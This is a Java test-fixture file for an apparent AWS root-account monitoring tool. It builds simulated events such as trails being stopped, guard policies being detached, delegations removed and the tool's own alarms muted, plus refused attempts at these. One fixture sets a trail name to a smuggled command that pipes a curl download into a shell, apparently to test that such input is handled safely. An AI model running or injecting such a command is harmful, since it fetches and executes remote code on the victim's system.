package dev.rootsweep.core.fake;

import static dev.rootsweep.core.fake.Activities.evidence;
import static dev.rootsweep.core.fake.Activities.refused;
import static dev.rootsweep.core.fake.Activities.role;
import static dev.rootsweep.core.fake.Activities.touching;
import static dev.rootsweep.core.fake.TriageWorld.HUB;
import static dev.rootsweep.core.fake.TriageWorld.MANAGEMENT;
import static dev.rootsweep.core.fake.TriageWorld.MEMBER;
import static dev.rootsweep.core.fake.TriageWorld.OTHER;

import dev.rootsweep.core.model.AccountId;
import dev.rootsweep.core.signal.Actor;
import dev.rootsweep.core.signal.Evidence;
import dev.rootsweep.core.signal.RootActivity;
import dev.rootsweep.core.signal.RootActivity.AccountMoved;
import dev.rootsweep.core.signal.RootActivity.Guard;
import dev.rootsweep.core.signal.RootActivity.GuardTouched;
import dev.rootsweep.core.signal.RootActivity.IdentityTouched;
import dev.rootsweep.core.signal.RootActivity.OwnResourceChanged;
import dev.rootsweep.core.signal.RootActivity.PlanExecuted;
import dev.rootsweep.core.signal.RootActivity.StackSetReported;
import dev.rootsweep.core.signal.RootActivity.TrailChanged;
import dev.rootsweep.core.signal.Touched;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;

/// Changes of what guards root, of the organization and of Rootsweep itself, done and refused.
final class ChangeVariants {
  private static final Actor ADMINISTRATOR = role(MANAGEMENT, "administrator");
  private static final Actor MALLORY = role(HUB, "mallory");
  private static final Actor DELEGATE = role(OTHER, "logging");
  private static final String TRAIL =
      "arn:aws:cloudtrail:us-east-1:111111111111:trail/organization";
  private static final String CHANGE_SET =
      "arn:aws:cloudformation:us-east-1:222222222222:changeSet/quiet/0000cafe";
  private static final String REFACTOR = "0000cafe-0000-4000-8000-000000000000";
  private static final String SCP = "SERVICE_CONTROL_POLICY";

  private ChangeVariants() {}

  /// Returns the changes by the names of their notices.
  static Map<String, RootActivity> all() {
    Map<String, RootActivity> changes = new TreeMap<>(trails());
    changes.putAll(policies());
    changes.putAll(access());
    changes.putAll(ownResources());
    changes.putAll(refusals());
    return changes;
  }

  private static Map<String, RootActivity> trails() {
    Map<String, RootActivity> trails = new TreeMap<>();
    trails.put(
        "trail-changed--UpdateTrail",
        new TrailChanged(
            touching(
                by(ADMINISTRATOR, "cloudtrail:UpdateTrail"),
                new Touched("trail", "organization"),
                new Touched(Touched.LOG_BUCKET, "somewhere-else"),
                new Touched("organization trail", "false")),
            "organization"));
    for (String call : new String[] {"DeleteTrail", "PutEventSelectors"}) {
      trails.put(
          "trail-changed--" + call,
          new TrailChanged(by(ADMINISTRATOR, "cloudtrail:" + call), "organization"));
    }
    trails.put(
        "trail-changed--named-by-an-attacker",
        new TrailChanged(by(ADMINISTRATOR, "cloudtrail:StopLogging"), "x; curl example.com | sh"));
    trails.put(
        "trail-changed--by-a-delegate",
        new TrailChanged(by(DELEGATE, "cloudtrail:StopLogging"), TRAIL));
    return trails;
  }

  private static Map<String, RootActivity> policies() {
    return Map.of(
        "policy-changed--DeletePolicy",
        touched("organizations:DeletePolicy", Guard.POLICY, TriageWorld.DENY_ROOT),
        "policy-changed--UpdatePolicy",
        touched("organizations:UpdatePolicy", Guard.POLICY, TriageWorld.DENY_ROOT),
        "policy-changed--AttachPolicy",
        new GuardTouched(
            by(ADMINISTRATOR, "organizations:AttachPolicy"),
            Guard.POLICY,
            "arn:aws:organizations::111111111111:policy/o-exampleorgid/service_control_policy/"
                + TriageWorld.DENY_ROOT,
            "ou-exam-workprod1"),
        "policy-changed--DisablePolicyType",
        touched("organizations:DisablePolicyType", Guard.POLICY_TYPE, SCP),
        "policy-changed--DisablePolicyType-of-another-type",
        touched("organizations:DisablePolicyType", Guard.POLICY_TYPE, "TAG_POLICY"),
        "policy-changed--EnablePolicyType",
        touched("organizations:EnablePolicyType", Guard.POLICY_TYPE, SCP),
        "policy-changed--DisableControl",
        new GuardTouched(
            by(ADMINISTRATOR, "controltower:DisableControl"),
            Guard.CONTROL,
            "arn:aws:controltower:us-east-1::control/AWS-GR_RESTRICT_ROOT_USER",
            "arn:aws:organizations::111111111111:ou/o-exampleorgid/ou-exam-workprod1"));
  }

  private static Map<String, RootActivity> access() {
    return Map.of(
        "root-access-weakened--delegate",
        new GuardTouched(
            touching(
                by(ADMINISTRATOR, "organizations:RegisterDelegatedAdministrator"),
                new Touched(Touched.ACCOUNT, "313131313131"),
                new Touched("service", "iam.amazonaws.com")),
            Guard.DELEGATE,
            "account 313131313131"),
        "root-access-weakened--trusted-access",
        touched("organizations:DisableAWSServiceAccess", Guard.TRUSTED_ACCESS, "iam.amazonaws.com"),
        "detection-weakened--stack-sets",
        touched(
            "cloudformation:DeactivateOrganizationsAccess",
            Guard.DETECTION_ACCESS,
            "member.org.stacksets.cloudformation.amazonaws.com"),
        "delegation-changed--removed",
        new GuardTouched(
            touching(
                by(ADMINISTRATOR, "cloudtrail:DeregisterOrganizationDelegatedAdmin"),
                new Touched(Touched.ACCOUNT, "313131313131")),
            Guard.DELEGATION,
            "account 313131313131 for cloudtrail.amazonaws.com"),
        "delegation-changed--policy-deleted",
        touched(
            "organizations:DeleteResourcePolicy",
            Guard.DELEGATION,
            "the organization's resource-based delegation policy"),
        "forwarder-failed--inoperable",
        new StackSetReported(
            by(Activities.nobody(), "303030303030 eu-west-1 INOPERABLE"),
            Optional.of(MEMBER),
            "eu-west-1",
            "rootsweep-forwarder",
            "INOPERABLE",
            ""));
  }

  private static Map<String, RootActivity> ownResources() {
    return Map.of(
        "own-resource-changed--alarm-muted",
        new OwnResourceChanged(
            touching(
                by(MALLORY, "monitoring:PutAlarmMuteRule"),
                new Touched(Touched.MUTE_RULE, "quiet"),
                new Touched("alarm", "rootsweep-heartbeat-missing")),
            "rootsweep-heartbeat-missing"),
        "own-resource-changed--alarm-actions-disabled",
        new OwnResourceChanged(
            by(MALLORY, "monitoring:DisableAlarmActions"), "rootsweep-heartbeat-missing"),
        "own-resource-changed--function-without-concurrency",
        new OwnResourceChanged(
            by(MALLORY, "lambda:PutFunctionConcurrency20171031"), "rootsweep-check"),
        "own-resource-changed--queue-purged",
        new OwnResourceChanged(by(MALLORY, "sqs:PurgeQueue"), "rootsweep-activity"),
        "own-resource-changed--change-set-by-arn",
        new PlanExecuted(by(MALLORY, "cloudformation:ExecuteChangeSet"), CHANGE_SET),
        "own-resource-changed--stack-refactor",
        new PlanExecuted(by(MALLORY, "cloudformation:ExecuteStackRefactor"), REFACTOR),
        "own-resource-changed--forwarder-of-a-member",
        new OwnResourceChanged(
            by(role(MEMBER, "administrator"), "events:DisableRule"), "rootsweep-forward-role"),
        "own-resource-changed--in-the-management-account",
        new OwnResourceChanged(by(ADMINISTRATOR, "events:DeleteRule"), "rootsweep-organization"),
        "own-resource-changed--stack-instances-deleted",
        new OwnResourceChanged(
            by(ADMINISTRATOR, "cloudformation:DeleteStackInstances"), "rootsweep-forwarder"));
  }

  private static Map<String, RootActivity> refusals() {
    return Map.of(
        "policy-changed--refused",
        new GuardTouched(
            refused(by(ADMINISTRATOR, "organizations:DetachPolicy")),
            Guard.POLICY,
            TriageWorld.DENY_ROOT,
            "303030303030"),
        "root-access-weakened--refused",
        new GuardTouched(
            refused(by(ADMINISTRATOR, "iam:DisableOrganizationsRootSessions")), Guard.FEATURE, ""),
        "detection-weakened--refused",
        new GuardTouched(
            refused(by(ADMINISTRATOR, "organizations:DisableAWSServiceAccess")),
            Guard.DETECTION_ACCESS,
            "cloudtrail.amazonaws.com"),
        "delegation-changed--refused",
        new GuardTouched(
            refused(by(ADMINISTRATOR, "organizations:PutResourcePolicy")),
            Guard.DELEGATION,
            "the organization's resource-based delegation policy"),
        "trail-changed--refused",
        new TrailChanged(refused(by(ADMINISTRATOR, "cloudtrail:StopLogging")), "organization"),
        "account-moved--refused",
        new AccountMoved(
            refused(by(ADMINISTRATOR, "organizations:MoveAccount")),
            Optional.of(MEMBER),
            "ou-exam-workprod1",
            "ou-exam-sandbox01"),
        "own-resource-changed--refused",
        new OwnResourceChanged(refused(by(MALLORY, "sqs:PurgeQueue")), "rootsweep-activity"),
        "deployed--refused",
        new OwnResourceChanged(
            refused(by(role(HUB, "cdk-deploy"), "cloudformation:ExecuteChangeSet")),
            "rootsweep-hub"),
        "root-identity-changed--refused",
        new IdentityTouched(
            refused(by(ADMINISTRATOR, "account:StartPrimaryEmailUpdate")),
            RootActivity.Step.EMAIL_CHANGE_STARTED,
            MEMBER));
  }

  private static RootActivity touched(String call, Guard guard, String what) {
    return new GuardTouched(by(ADMINISTRATOR, call), guard, what);
  }

  private static Evidence by(Actor actor, String call) {
    AccountId account = actor.account().orElse(MANAGEMENT);
    return evidence("event-1", account, actor, call);
  }
}
